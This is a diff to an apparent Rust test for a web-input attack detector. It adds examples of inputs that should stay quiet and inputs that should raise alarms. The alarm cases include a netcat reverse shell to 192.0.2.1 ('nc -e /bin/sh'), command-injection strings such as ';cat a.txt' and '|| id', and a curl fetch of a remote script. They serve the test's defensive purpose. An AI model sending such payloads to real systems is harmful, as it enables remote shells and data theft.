@@ -269,6 +269,7 @@ fn words_and_units_that_look_like_code_stay_quiet() {
         "body=<p>Hi</p><img+src=\"/a.png\"+onerror=\"this.remove()\">",
         "body=<img+src=\"/a.png\"+onerror=\"this.onerror=null;this.src='/b.png'\">",
         "ref=/../",
+        "note=run:+ls+-la+/var/log+|+grep+error+>+out.txt",
         "ask={\"filter\":{\"$gt\":7}}",
     ]);
     alarms(
@@ -305,6 +306,8 @@ fn words_and_units_that_look_like_code_stay_quiet() {
             "q=$(%3Ca.txt)",
             "q=curl+http://example.org/a.sh",
             "cmd=ls+-la",
+            "note=run:+x+of+it+|+nc+-e+/bin/sh+192.0.2.1+9",
+            "note=run:;cat+a.txt",
             "q=ls+-la+/etc",
             "q=a+||+id",
             "q=curl+http://192.0.2.1",
